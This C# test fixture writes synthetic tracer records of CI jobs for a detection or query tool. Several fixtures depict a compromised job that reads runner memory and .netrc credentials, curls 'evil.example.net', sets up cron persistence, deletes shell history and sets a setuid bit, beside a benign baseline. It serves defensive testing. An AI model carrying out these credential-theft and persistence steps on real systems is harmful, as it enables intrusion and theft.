using System.IO.Compression;
using System.Text;

namespace Ashiato.Query.Tests;

/// <summary>Writes trace files in the contract's format into a private temporary folder.</summary>
public sealed class TestTrace : IDisposable
{
    public TestTrace()
    {
        Directory = System.IO.Directory.CreateTempSubdirectory("ashiato-query-test-").FullName;
    }

    public string Directory { get; }

    public string PathOf(string name) => Path.Combine(Directory, name);

    public string WriteJsonl(string name, IEnumerable<string> lines)
    {
        var path = PathOf(name);
        File.WriteAllText(path, string.Concat(lines.Select(l => l + "\n")));
        return path;
    }

    /// <summary>Writes a gzip file of several members (as the tracer's periodic flushes do), optionally cut short.</summary>
    public string WriteGzip(string name, IReadOnlyList<string> lines, int members = 3, int cutBytes = 0)
    {
        var path = PathOf(name);
        using (var file = File.Create(path))
        {
            var perMember = Math.Max(1, (lines.Count + members - 1) / members);
            foreach (var chunk in lines.Chunk(perMember))
            {
                using var gzip = new GZipStream(file, CompressionLevel.Fastest, leaveOpen: true);
                gzip.Write(Encoding.UTF8.GetBytes(string.Concat(chunk.Select(l => l + "\n"))));
            }
            file.SetLength(file.Length - cutBytes);
        }
        return path;
    }

    public void Dispose() => System.IO.Directory.Delete(Directory, recursive: true);

    public static string Timestamp(int second, int micros = 0) => $"2026-11-27T15:{second / 60 % 60:D2}:{second % 60:D2}.{micros:D6}Z";

    public static string Exec(int second, int pid, string filename, string[] args, int ppid = 1) =>
        $$"""{"type":"process_exec","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"ppid":{{ppid}},"comm":"{{Path.GetFileName(filename)}}","filename":"{{filename}}","args":[{{string.Join(",", args.Select(a => $"\"{a}\""))}}]}""";

    public static string Open(int second, int pid, string path, string flags = "O_RDONLY", string comm = "cat") =>
        $$"""{"type":"file_open","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"comm":"{{comm}}","path":"{{path}}","flags":"{{flags}}"}""";

    public static string Connect(int second, int pid, string addr, int port, string comm = "node", string? hostname = null) =>
        $$"""{"type":"net_connect","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"comm":"{{comm}}","dst_addr":"{{addr}}","dst_port":{{port}},"protocol":"tcp"{{(hostname is null ? "" : $",\"hostname\":\"{hostname}\"")}}}""";

    public static string Dns(int second, int pid, string hostname, string comm = "node") =>
        $$"""{"type":"dns_query","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"comm":"{{comm}}","hostname":"{{hostname}}"}""";

    public static string Write(int second, int pid, string path, long bytes, string comm = "node") =>
        $$"""{"type":"file_write","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"comm":"{{comm}}","path":"{{path}}","bytes":{{bytes}}}""";

    public static string Snapshot(int second, int pid, string filename, string[] args, int ppid, string env = "") =>
        $$"""{"type":"process_exec","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"ppid":{{ppid}},"comm":"{{Path.GetFileName(filename)}}","filename":"{{filename}}","args":[{{string.Join(",", args.Select(a => $"\"{a}\""))}}],"exe":"{{filename}}","snapshot":true{{(env.Length == 0 ? "" : $",\"env\":{{{env}}}")}}}""";

    public static string Fork(int second, int pid, int ppid, string comm) =>
        $$"""{"type":"process_fork","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"ppid":{{ppid}},"comm":"{{comm}}"}""";

    public static string Rename(int second, int pid, string from, string to, string comm = "mv") =>
        $$"""{"type":"file_rename","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"comm":"{{comm}}","path":"{{from}}","new_path":"{{to}}"}""";

    public static string Delete(int second, int pid, string path, string comm = "rm") =>
        $$"""{"type":"file_delete","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"comm":"{{comm}}","path":"{{path}}"}""";

    public static string Chmod(int second, int pid, string path, string mode, string comm = "chmod") =>
        $$"""{"type":"file_chmod","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"comm":"{{comm}}","path":"{{path}}","mode":"{{mode}}"}""";

    public static string Access(int second, int pid, int target, string targetComm, string method, string relation, int targetPpid, string comm = "gdb") =>
        $$"""{"type":"process_access","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"comm":"{{comm}}","target_pid":{{target}},"target_comm":"{{targetComm}}","method":"{{method}}","target_relation":"{{relation}}","target_ppid":{{targetPpid}}}""";

    /// <summary>
    /// The same theft traced with <c>--pid</c> of a running Runner.Worker: the worker and its step's shell are
    /// snapshot execs (already running when tracing started), a subshell never exec'd, and the payload also attaches to
    /// the worker, renames a cron entry into place, removes the shell history and sets a setuid bit.
    /// </summary>
    public static IReadOnlyList<string> PidScopedJob() =>
    [
        Snapshot(1, 1200, "/home/runner/actions-runner/bin/Runner.Worker", ["/home/runner/actions-runner/bin/Runner.Worker", "spawnclient", "107", "110"], ppid: 1100),
        Snapshot(1, 1230, "/usr/bin/bash", ["/usr/bin/bash", "-e", "/home/runner/work/_temp/step.sh"], ppid: 1200, env: "\"BASH_ENV\":\"/tmp/x/env.sh\",\"LD_PRELOAD\":\"/tmp/x/hook.so\""),
        Fork(2, 1231, 1230, "bash"),
        Exec(3, 1236, "/usr/bin/node", ["node", "payload.js"], ppid: 1231),
        Open(4, 1236, "/proc/1200/maps", comm: "node"),
        Open(4, 1236, "/proc/1200/mem", comm: "node"),
        Access(5, 1236, 1200, "Runner.Worker", "ptrace_attach", "other", 1100, comm: "node"),
        Rename(6, 1236, "/tmp/x/job", "/etc/cron.d/job", comm: "node"),
        Delete(7, 1236, "/home/runner/.bash_history", comm: "node"),
        Chmod(8, 1236, "/tmp/x/sh", "4755", comm: "node"),
    ];

    /// <summary>A small CI job: Runner.Worker, an npm install whose postinstall script phones home, curl, a .netrc read.</summary>
    public static IReadOnlyList<string> CompromisedJob() =>
    [
        Exec(1, 1200, "/home/runner/actions-runner/bin/Runner.Worker", ["/home/runner/actions-runner/bin/Runner.Worker", "spawnclient", "107", "110"]),
        Exec(2, 1234, "/usr/bin/npm", ["npm", "install"], ppid: 1200),
        Dns(3, 1234, "registry.example.org", comm: "npm"),
        Connect(3, 1234, "104.16.23.35", 443, comm: "npm", hostname: "registry.example.org"),
        Open(4, 1234, "/home/runner/work/app/package.json", comm: "npm"),
        Exec(5, 1235, "/bin/sh", ["sh", "-c", "node postinstall.js"], ppid: 1234),
        Exec(6, 1236, "/usr/bin/node", ["node", "postinstall.js"], ppid: 1235),
        Dns(7, 1236, "evil.example.net"),
        Connect(7, 1236, "203.0.113.7", 443, hostname: "evil.example.net"),
        Open(8, 1236, "/proc/1200/maps"),
        Open(8, 1236, "/proc/1200/mem"),
        Open(9, 1236, "/proc/self/maps"),
        Open(9, 1236, "/proc/999/mem"),
        Open(10, 1236, "/home/runner/.netrc"),
        Write(11, 1234, "/home/runner/work/app/node_modules/.package-lock.json", 2048),
        Write(12, 1236, "/usr/local/bin/backdoor", 4096),
        Exec(13, 1240, "/usr/bin/curl", ["curl", "-sS", "https://evil.example.net/x"], ppid: 1200),
        Connect(14, 1300, "10.0.0.5", 22, comm: "ssh"),
    ];

    /// <summary>A record of a process inside a GitHub Actions job: the tracer adds <c>job_id</c> and <c>step</c>.</summary>
    public static string InStep(string line, string jobId, int step) => line[..^1] + $$""","job_id":"{{jobId}}","step":{{step}}}""";

    public static string RunnerJob(int second, string jobId, int workerPid, string job = "build", string repository = "octo-org/octo-repo") =>
        $$"""{"type":"runner_job","timestamp":"{{Timestamp(second)}}","job_id":"{{jobId}}","worker_pid":{{workerPid}},"runner_name":"runner-1","repository":"{{repository}}","workflow_ref":"{{repository}}/.github/workflows/ci.yml@refs/heads/main","run_id":"42","run_attempt":"1","job":"{{job}}"}""";

    public static string RunnerJobEnd(int second, string jobId, int exitCode) =>
        $$"""{"type":"runner_job_end","timestamp":"{{Timestamp(second)}}","job_id":"{{jobId}}","exit_code":{{exitCode}}}""";

    /// <summary>A <c>step</c> record; <paramref name="extra"/> adds fields (<c>"name":"__run"</c>, <c>"action":"o/r@v1"</c>).</summary>
    public static string StepStart(int second, string jobId, int step, string kind, int pid, string extra = "") =>
        $$"""{"type":"step","timestamp":"{{Timestamp(second)}}","job_id":"{{jobId}}","step":{{step}},"kind":"{{kind}}"{{(extra.Length == 0 ? "" : "," + extra)}},"pid":{{pid}}}""";

    public static string StepEnd(int second, string jobId, int step, int exitCode) =>
        $$"""{"type":"step_end","timestamp":"{{Timestamp(second)}}","job_id":"{{jobId}}","step":{{step}},"exit_code":{{exitCode}}}""";

    public const string ActionJobId = "1200-1796316412000";

    /// <summary>
    /// A GitHub Actions job as the tracer records one from the listener: the worker (step 0) and its housekeeping (tar,
    /// chmod: step 0 too), a run step that installs with npm (step 1), <c>evil-org/changed-files@v45</c> reading the
    /// worker's maps and mem and the runner's .netrc and phoning home (step 2), and a run step that runs curl (step 3).
    /// The listener is outside the job.
    /// </summary>
    public static IReadOnlyList<string> ActionJob()
    {
        const string job = ActionJobId;
        return
        [
            Exec(0, 1100, "/home/runner/actions-runner/bin/Runner.Listener", ["/home/runner/actions-runner/bin/Runner.Listener", "run"]),
            InStep(Exec(1, 1200, "/home/runner/actions-runner/bin/Runner.Worker", ["/home/runner/actions-runner/bin/Runner.Worker", "spawnclient", "66", "69"], ppid: 1100), job, 0),
            StepStart(2, job, 0, "runner", 1201),
            InStep(Exec(2, 1201, "/usr/bin/tar", ["/usr/bin/tar", "-xzf", "/home/runner/work/_actions/_temp_1/a.tar.gz"], ppid: 1200), job, 0),
            StepEnd(2, job, 0, 0),
            StepStart(3, job, 0, "runner", 1202),
            InStep(Exec(3, 1202, "/usr/bin/chmod", ["/usr/bin/chmod", "-R", "a+rX", "/home/runner/work/_actions/evil-org/changed-files/v45"], ppid: 1200), job, 0),
            StepEnd(3, job, 0, 1),
            RunnerJob(4, job, 1200),
            StepStart(4, job, 1, "run", 1210, "\"name\":\"__run\",\"script\":\"/home/runner/work/_temp/1111.sh\",\"script_sha256\":\"aa11\""),
            InStep(Exec(4, 1210, "/usr/bin/bash", ["/usr/bin/bash", "-e", "/home/runner/work/_temp/1111.sh"], ppid: 1200), job, 1),
            InStep(Exec(5, 1211, "/usr/bin/npm", ["npm", "install"], ppid: 1210), job, 1),
            InStep(Dns(5, 1211, "registry.example.org", comm: "npm"), job, 1),
            InStep(Connect(5, 1211, "104.16.23.35", 443, comm: "npm", hostname: "registry.example.org"), job, 1),
            InStep(Open(6, 1211, "/home/runner/work/app/package.json", comm: "npm"), job, 1),
            InStep(Open(6, 1211, "/home/runner/.npmrc", comm: "npm"), job, 1),
            InStep(Write(7, 1211, "/home/runner/work/app/node_modules/.package-lock.json", 2048, comm: "npm"), job, 1),
            StepEnd(8, job, 1, 0),
            StepStart(9, job, 2, "action", 1220, "\"name\":\"changed-files\",\"action\":\"evil-org/changed-files@v45\",\"script\":\"/home/runner/work/_actions/evil-org/changed-files/v45/dist/index.js\""),
            InStep(Exec(9, 1220, "/home/runner/actions-runner/externals/node20/bin/node", ["/home/runner/actions-runner/externals/node20/bin/node", "/home/runner/work/_actions/evil-org/changed-files/v45/dist/index.js"], ppid: 1200), job, 2),
            InStep(Open(10, 1220, "/proc/1200/maps", comm: "node"), job, 2),
            InStep(Open(10, 1220, "/proc/1200/mem", comm: "node"), job, 2),
            InStep(Open(11, 1220, "/home/runner/.netrc", comm: "node"), job, 2),
            InStep(Open(11, 1220, "/home/runner/work/app/src/index.ts", comm: "node"), job, 2),
            InStep(Dns(12, 1220, "evil.example.net"), job, 2),
            InStep(Connect(12, 1220, "203.0.113.7", 443, hostname: "evil.example.net"), job, 2),
            InStep(Connect(13, 1220, "203.0.113.7", 443, hostname: "evil.example.net"), job, 2),
            StepEnd(14, job, 2, 0),
            StepStart(15, job, 3, "run", 1230, "\"name\":\"__run_2\",\"script\":\"/home/runner/work/_temp/2222.sh\",\"script_sha256\":\"bb22\""),
            InStep(Exec(15, 1230, "/usr/bin/bash", ["/usr/bin/bash", "-e", "/home/runner/work/_temp/2222.sh"], ppid: 1200), job, 3),
            InStep(Exec(16, 1231, "/usr/bin/curl", ["curl", "-sS", "https://api.github.com/"], ppid: 1230), job, 3),
            InStep(Connect(16, 1231, "140.82.112.6", 443, comm: "curl", hostname: "api.github.com"), job, 3),
            StepEnd(17, job, 3, 6),
            InStep(Write(18, 1200, "/home/runner/actions-runner/_diag/Worker_1.log", 100, comm: "Runner.Worker"), job, 0),
            RunnerJobEnd(19, job, 1),
            Connect(20, 1100, "140.82.112.6", 443, comm: "Runner.Listener", hostname: "api.github.com"),
        ];
    }

    /// <summary>A normal run of the same job: only the registry.</summary>
    public static IReadOnlyList<string> NormalJob() =>
    [
        Exec(1, 2200, "/home/runner/actions-runner/bin/Runner.Worker", ["/home/runner/actions-runner/bin/Runner.Worker", "spawnclient"]),
        Exec(2, 2234, "/usr/bin/npm", ["npm", "install"], ppid: 2200),
        Dns(3, 2234, "registry.example.org", comm: "npm"),
        Connect(3, 2234, "104.16.23.35", 443, comm: "npm", hostname: "registry.example.org"),
        Connect(14, 2300, "10.0.0.5", 22, comm: "ssh"),
    ];
}
